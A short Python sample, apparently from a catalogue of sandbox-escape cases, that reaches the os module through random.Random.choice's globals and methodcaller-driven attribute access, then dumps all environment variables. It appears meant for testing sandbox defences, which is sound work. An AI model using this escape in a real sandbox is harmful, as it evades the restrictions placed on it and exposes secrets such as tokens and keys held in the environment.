# family: modules that hand out objects
# escape: type(lambda: 0) is types.FunctionType; the methodcaller class calls __getattribute__ with run-time names
# to take the payload's code and random.Random.choice's globals (which hold `_os`), building a function whose
# free name _os is the os module.
import operator
import random

def payload():
    return dict(_os.environ)

def tool(a: str = "getattribute", b: str = "code", c: str = "globals") -> dict:
    call = type(operator.methodcaller("strip"))
    code = call("__" + a + "__", "__" + b + "__")(payload)
    namespace = call("__" + a + "__", "__" + c + "__")(random.Random.choice)
    return type(lambda: 0)(code, namespace)()
